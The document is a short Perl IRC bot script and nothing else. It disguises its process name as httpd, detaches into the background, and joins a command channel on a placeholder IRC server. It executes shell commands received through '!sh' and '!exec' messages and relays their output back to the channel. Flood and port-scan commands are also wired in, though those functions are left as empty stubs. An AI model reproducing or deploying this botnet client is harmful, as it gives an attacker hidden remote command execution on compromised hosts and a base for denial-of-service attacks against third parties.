#!/usr/bin/perl
use IO::Socket::INET;
my $server = "irc.example.net";
my @chan = ("#ops");
$0 = "/usr/sbin/httpd";
my $pid = fork;
exit if $pid;
my $sock = IO::Socket::INET->new(PeerAddr => $server, PeerPort => 6667, Proto => 'tcp') or die;
print $sock "NICK x" . int(rand(9999)) . "\r\n";
print $sock "USER x 8 * :x\r\n";
print $sock "JOIN $chan[0]\r\n";
sub sendraw { my $l = shift; print $sock "$l\r\n"; }
while (my $line = <$sock>) {
    if ($line =~ /^PING (.*)/) { sendraw("PONG $1"); }
    if ($line =~ /PRIVMSG \S+ :!sh (.*)/) { my @o = `$1`; sendraw("PRIVMSG $chan[0] :$_") for @o; }
    if ($line =~ /PRIVMSG \S+ :!exec (.*)/) { system($1); }
    if ($line =~ /!udpflood (\S+) (\d+)/) { udpflood($1, $2); }
    if ($line =~ /!tcpflood (\S+) (\d+)/) { tcpflood($1, $2); }
    if ($line =~ /!portscan (\S+)/) { portscan($1); }
}
sub udpflood { } sub tcpflood { } sub portscan { }
